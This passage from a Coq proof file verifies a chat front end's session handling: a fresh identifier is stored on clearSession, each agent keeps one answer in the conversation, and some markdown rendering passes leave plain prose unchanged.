      unfold Session.init. rewrite Hstored, Hid. reflexivity.
    + specialize (Hnew (Session.storage w)).
      destruct (Session.generateUUID rnd (Session.calls w)) as [id' calls'].
      exact Hnew.
  - specialize (Hnew (Session.storage w)).
    destruct (Session.generateUUID rnd (Session.calls w)) as [id' calls'].
    exact Hnew.
Qed.

(** X20. [clearSession] leaves a non-empty identifier both in the state
    and in [localStorage]: the next mount of the hook starts with the
    identifier [clearSession] returned, not with the one it removed. *)
Theorem clearSession_stores_the_new_id
    (rnd rnd' : nat -> N) (w : Session.World) :
  let '(newId, w') := Session.clearSession rnd w in
  truthy newId = true
  /\ Session.storage w' !! Session.SESSION_KEY = Some newId
  /\ fst (Session.init rnd' w') = newId.
Proof.
  unfold Session.clearSession.
  pose proof (generateUUID_truthy rnd (Session.calls w)) as Hid.
  destruct (Session.generateUUID rnd (Session.calls w)) as [id calls'].
  simpl in Hid. unfold Session.init. simpl. rewrite lookup_insert_eq, Hid.
  split; [reflexivity|]. split; reflexivity.
Qed.

(** ** One answer per agent in the session-based hook *)

Lemma findIndex_None {A} (p : A -> bool) l :
  SessionHook.findIndex p l = None -> Forall (fun x => p x = false) l.
Proof.
  induction l as [|x l IH]; simpl; intros H; [constructor|].
  destruct (p x) eqn:Hx; [discriminate|].
  destruct (SessionHook.findIndex p l); [discriminate|].
  constructor; [exact Hx | apply IH; reflexivity].
Qed.

Lemma agent_keys_insert l : forall i x m,
  l !! i = Some x -> SessionHook.agentKey x = SessionHook.agentKey m ->
  agent_keys (<[i := m]> l) = agent_keys l.
Proof.
  unfold agent_keys.
  induction l as [|y l IH]; intros i x m Hi Hkey; [reflexivity|].
  destruct i as [|i]; simpl in Hi.
  - injection Hi as ->. cbn. rewrite Hkey. reflexivity.
  - specialize (IH i x m Hi Hkey). cbn.
    destruct (SessionHook.agentKey y); [f_equal|]; exact IH.
Qed.

Lemma session_apply_one_per_agent st e :
  well_keyed e = true ->
  one_per_agent (SessionHook.messages st) ->
  one_per_agent (SessionHook.messages (SessionHook.apply st e)).
Proof.
  unfold one_per_agent, agent_keys.
  intros Hkey [Hnodup Hall]. destruct e as [m|m| | | | |]; simpl; auto.
  - simpl in Hkey. apply bool_decide_eq_true in Hkey.
    rewrite omap_app. simpl. rewrite Hkey, app_nil_r. split; [exact Hnodup|].
    apply Forall_app. split; [exact Hall|].
    constructor; [|constructor]. rewrite Hkey. intros [k Hk]. discriminate.
  - simpl in Hkey. apply andb_true_iff in Hkey as [Hsome Hsyn].
    apply bool_decide_eq_true in Hsome as [k Hk].
    apply negb_true_iff in Hsyn.
    unfold SessionHook.upsert. rewrite Hk.
    destruct (SessionHook.findIndex _ _) as [j|] eqn:Hfind.
    + apply findIndex_Some in Hfind as (x & Hj & Hx).
      unfold SessionHook.same_agent in Hx.
      apply andb_true_iff in Hx as [Hx _]. apply bool_decide_eq_true in Hx.
      fold (agent_keys (<[j := m]> (SessionHook.messages st))).
      rewrite (agent_keys_insert _ j x m Hj) by congruence.
      split; [exact Hnodup|].
      apply Forall_insert; [exact Hall|]. intros _. exact Hsyn.
    + apply findIndex_None in Hfind.
      rewrite omap_app. simpl. rewrite Hk. split.
      * apply NoDup_app. split; [exact Hnodup|]. split; [|apply NoDup_singleton].
        intros k' Hin Hk'. apply list_elem_of_singleton in Hk'. subst k'.
        apply list_elem_of_omap in Hin as (x & Hx & Hxk).
        rewrite Forall_forall in Hfind, Hall.
        specialize (Hfind x Hx). specialize (Hall x Hx).
        unfold SessionHook.same_agent in Hfind.
        rewrite Hall in Hfind by eauto.
        rewrite bool_decide_eq_true_2 in Hfind by exact Hxk. discriminate.
      * apply Forall_app. split; [exact Hall|].
        constructor; [|constructor]. intros _. exact Hsyn.
Qed.

Lemma session_run_one_per_agent es : forall st,
  forallb well_keyed es = true ->
  one_per_agent (SessionHook.messages st) ->
  one_per_agent (SessionHook.messages (SessionHook.run st es)).
Proof.
  induction es as [|e es IH]; intros st Hes Hst; [exact Hst|].
  simpl in Hes. apply andb_true_iff in Hes as [He Hes].
  apply (IH (SessionHook.apply st e) Hes).
  apply session_apply_one_per_agent; assumption.
Qed.

Lemma session_dispatch_well_keyed e :
  forallb well_keyed (SessionHook.dispatch e) = true.
Proof.
  unfold SessionHook.dispatch.
  destruct (has_type "routing" e && bool_decide (is_Some (ev_agents e)));
    [reflexivity|].
  destruct (has_type "agent_response" e); simpl.
  - destruct (ev_agent e) as [k|] eqn:Hk; simpl.
    + destruct (truthy k); simpl.
      * rewrite Hk. rewrite bool_decide_eq_true_2 by eauto. reflexivity.
      * destruct (has_type "synthesis" e); [reflexivity|].
        destruct (has_type "onboarding_question" e || has_type "onboarding_complete" e);
          reflexivity.
    + destruct (has_type "synthesis" e); [reflexivity|].
      destruct (has_type "onboarding_question" e || has_type "onboarding_complete" e);
        reflexivity.
  - destruct (has_type "synthesis" e); [reflexivity|].
    destruct (has_type "onboarding_question" e || has_type "onboarding_complete" e);
      reflexivity.
Qed.

Lemma session_sendMessage_well_keyed parse sessionId st text net :
  forallb well_keyed (SessionHook.sendMessage parse sessionId st text net) = true.
Proof.
  unfold SessionHook.sendMessage.
  destruct (SessionHook.isStreaming st); [reflexivity|].
  rewrite !forallb_app. rewrite !andb_true_iff. repeat split.
  - destruct (truthy (trim text)); reflexivity.
  - destruct net as [|res]; [reflexivity|].
    destruct (res_body res) as [b|]; [|reflexivity].
    rewrite forallb_app, read_loop_whole. apply andb_true_iff. split.
    + apply forallb_flat_map. intros line. unfold SessionHook.process_line.
      destruct (startsWith _ line); [|reflexivity].
      destruct (parse _) as [e|]; [|reflexivity].
      apply (session_dispatch_well_keyed e).
    + destruct (body_read_rejects b); reflexivity.
Qed.

(** X21. In the session-based hook the conversation never holds two
    messages of the same agent: whatever is sent and cleared, under
    whatever session identifiers, and whatever the streams deliver, the
    agent keys of the messages are pairwise different, so an agent that
    answers again, in the same turn or a later one, takes the place of its
    earlier answer. *)
Theorem session_hook_keeps_one_answer_per_agent
    (parse : jsstring -> option SSEEvent) (turns : list SessionTurn) :
  NoDup (agent_keys
           (SessionHook.messages
              (fold_left (session_turn parse) turns session_start))).
Proof.
  assert (Hgen : forall st,
             one_per_agent (SessionHook.messages st) ->
             one_per_agent
               (SessionHook.messages (fold_left (session_turn parse) turns st))).
  { induction turns as [|t turns IH]; intros st Hst; [exact Hst|].
    simpl. apply IH. destruct t as [sessionId text net|]; simpl.
    - apply session_run_one_per_agent;
        [apply session_sendMessage_well_keyed | exact Hst].
    - split; constructor. }
  apply Hgen. split; constructor.
Qed.

(** ** Markdown passes that change nothing *)

Lemma gsub_echo p :
  (forall prev s m,
      p prev s = Some m ->
      Markdown.replacement m = Markdown.matched m
      /\ s = Markdown.matched m ++ Markdown.rest m) ->
  forall fuel prev s, Markdown.gsub p fuel prev s = s.
Proof.
  intros Hp. induction fuel as [|fuel IH]; intros prev s; simpl; [reflexivity|].
  destruct (p prev s) as [m|] eqn:Hm.
  - destruct (Hp _ _ _ Hm) as [-> Hs]. rewrite IH. symmetry. exact Hs.
  - destruct s as [|c s]; [reflexivity|]. rewrite IH. reflexivity.
Qed.

Lemma whole_line_echoes prev s m :
  Markdown.whole_line prev s = Some m ->
  Markdown.replacement m = Markdown.matched m
  /\ s = Markdown.matched m ++ Markdown.rest m.
Proof.
  unfold Markdown.whole_line.
  destruct (Markdown.at_line_start prev); [|discriminate].
  destruct (Markdown.dot_star s) as [line r] eqn:Hd.
  destruct line as [|c line]; [discriminate|].
  intros H. apply (inj Some) in H. rewrite <- H.
  cbn [Markdown.matched Markdown.replacement Markdown.rest].
  split; [destruct (startsWith _ _); reflexivity|].
  apply dot_star_split in Hd as [Hs _]. exact Hs.
Qed.

Lemma gsub_silent p :
  (forall prev, p prev [] = None) ->
  (forall prev c s, prose_unit c = true -> p prev (c :: s) = None) ->
  forall fuel prev s,
    Forall (fun c => prose_unit c = true) s -> Markdown.gsub p fuel prev s = s.
Proof.
  intros Hnil Hcons. induction fuel as [|fuel IH]; intros prev s Hs; simpl;
    [reflexivity|].
  destruct Hs as [|c s Hc Hs]; [rewrite Hnil; reflexivity|].
  rewrite (Hcons prev c s Hc), (IH (Some c) s Hs). reflexivity.
Qed.

Lemma startsWith_other a p c s : a <> c -> startsWith (a :: p) (c :: s) = false.
Proof.
  intros H. simpl. apply N.eqb_neq in H. rewrite H. reflexivity.
Qed.

Lemma prose_unit_spec c :
  prose_unit c = true ->
  42 <> c /\ 35 <> c /\ 45 <> c /\ 60 <> c /\ 10 <> c
  /\ Markdown.is_digit c = false.
Proof.
  unfold prose_unit. intros H. apply negb_true_iff in H.
  repeat (apply orb_false_iff in H as [H ?]).
  repeat match goal with
         | E : (c =? _) = false |- _ => apply N.eqb_neq in E
         end.
  repeat split; first [assumption | congruence].
Qed.

Lemma delimited_silent delim' before after prev c s :
  prose_unit c = true ->
  Markdown.delimited (42 :: delim') before after prev (c :: s) = None.
Proof.
  intros H. apply prose_unit_spec in H as (H & _).
  unfold Markdown.delimited. rewrite startsWith_other by exact H. reflexivity.
Qed.

Lemma line_with_prefix_silent a prefix' before after prev c s :
  a <> c ->
  Markdown.line_with_prefix (a :: prefix') before after prev (c :: s) = None.
Proof.
  intros H. unfold Markdown.line_with_prefix.
  rewrite startsWith_other by exact H. rewrite andb_false_r. reflexivity.
Qed.

Lemma item_block_silent prev c s :
  prose_unit c = true -> Markdown.item_block prev (c :: s) = None.
Proof.
  intros H. apply prose_unit_spec in H as (_ & _ & _ & H & _).
  unfold Markdown.item_block.
  assert (Hitem : Markdown.list_item (c :: s) = None).
  { unfold Markdown.list_item.
    change (js "<li>") with (60 :: js "li>").
    rewrite (startsWith_other 60 (js "li>") c s H). reflexivity. }
  destruct (length (c :: s)); simpl; rewrite Hitem; reflexivity.
Qed.

Lemma numbered_item_silent prev c s :
  prose_unit c = true -> Markdown.numbered_item prev (c :: s) = None.
Proof.
  intros H. apply prose_unit_spec in H as (_ & _ & _ & _ & _ & H).
  unfold Markdown.numbered_item.
  destruct (Markdown.at_line_start prev); [|reflexivity].
  simpl. rewrite H. reflexivity.
Qed.

Lemma rule_silent prev c s :
  prose_unit c = true -> Markdown.rule prev (c :: s) = None.
Proof.
  intros H. apply prose_unit_spec in H as (_ & _ & H & _).
  unfold Markdown.rule.
  change (js "---") with (45 :: js "--").
  rewrite (startsWith_other 45 (js "--") c s H), andb_false_r. reflexivity.
Qed.

Lemma blank_line_silent prev c s :
  prose_unit c = true -> Markdown.blank_line prev (c :: s) = None.
Proof.
  intros H. apply prose_unit_spec in H as (_ & _ & _ & _ & H & _).
  unfold Markdown.blank_line.
  rewrite (startsWith_other 10 [10] c s H). reflexivity.
Qed.

(** X22. The last pass of [renderMarkdown], the replacement of every
    line by what its callback returns, changes no string: whatever the
    line starts with, the callback returns the line. *)
Theorem last_pass_changes_nothing (s : jsstring) :
  Markdown.replace Markdown.whole_line s = s.
Proof.
  unfold Markdown.replace. apply gsub_echo. apply whole_line_echoes.
Qed.

(** X23. Text in which no [*], [#], [-], [<], line feed or decimal digit
    occurs is rendered as it is: [renderMarkdown] returns it unchanged. *)
Theorem prose_is_rendered_verbatim (text : jsstring) :
  Forall (fun c => prose_unit c = true) text ->
  Markdown.renderMarkdown text = text.
Proof.
  intros Hprose. unfold Markdown.renderMarkdown, Markdown.replace.
  assert (Hstep : forall p,
             (forall prev, p prev [] = None) ->
             (forall prev c s, prose_unit c = true -> p prev (c :: s) = None) ->
             Markdown.gsub p (length text) None text = text).
  { intros p Hnil Hcons. apply (gsub_silent p Hnil Hcons), Hprose. }
  cbv zeta.
  rewrite (Hstep (Markdown.delimited (js "**") _ _));
    [|reflexivity | intros prev c s; apply (delimited_silent (js "*"))].
  rewrite (Hstep (Markdown.delimited (js "*") _ _));
    [|reflexivity | intros prev c s; apply (delimited_silent [])].
  rewrite (Hstep (Markdown.line_with_prefix (js "### ") _ _));
    [|intros prev; unfold Markdown.line_with_prefix;
      destruct (Markdown.at_line_start prev); reflexivity
     |intros prev c s H; apply (line_with_prefix_silent 35 (js "## "));
      apply (prose_unit_spec c H)].
  rewrite (Hstep (Markdown.line_with_prefix (js "## ") _ _));
    [|intros prev; unfold Markdown.line_with_prefix;
      destruct (Markdown.at_line_start prev); reflexivity
     |intros prev c s H; apply (line_with_prefix_silent 35 (js "# "));
      apply (prose_unit_spec c H)].
  rewrite (Hstep (Markdown.line_with_prefix (js "# ") _ _));
    [|intros prev; unfold Markdown.line_with_prefix;
      destruct (Markdown.at_line_start prev); reflexivity
     |intros prev c s H; apply (line_with_prefix_silent 35 (js " "));
      apply (prose_unit_spec c H)].
  rewrite (Hstep (Markdown.line_with_prefix (js "- ") _ _));
    [|intros prev; unfold Markdown.line_with_prefix;
      destruct (Markdown.at_line_start prev); reflexivity
     |intros prev c s H; apply (line_with_prefix_silent 45 (js " "));
      apply (prose_unit_spec c H)].
  rewrite (Hstep Markdown.item_block);
    [|reflexivity | intros prev c s; apply item_block_silent].
  rewrite (Hstep Markdown.numbered_item);
    [|intros prev; unfold Markdown.numbered_item;
      destruct (Markdown.at_line_start prev); reflexivity
     |intros prev c s; apply numbered_item_silent].
  rewrite (Hstep Markdown.rule);
    [|intros prev; unfold Markdown.rule; rewrite andb_false_r; reflexivity
     |intros prev c s; apply rule_silent].
  rewrite (Hstep Markdown.blank_line);
    [|reflexivity | intros prev c s; apply blank_line_silent].
  apply gsub_echo. apply whole_line_echoes.
Qed.

Lemma prose_is_rendered_verbatim_witness :
  Forall (fun c => prose_unit c = true) (js "Raise now.")
  /\ Markdown.renderMarkdown (js "Raise now.") = js "Raise now.".
Proof.
  assert (H : Forall (fun c => prose_unit c = true) (js "Raise now."))
    by (repeat constructor).
  split; [exact H | apply prose_is_rendered_verbatim, H].
Defined.
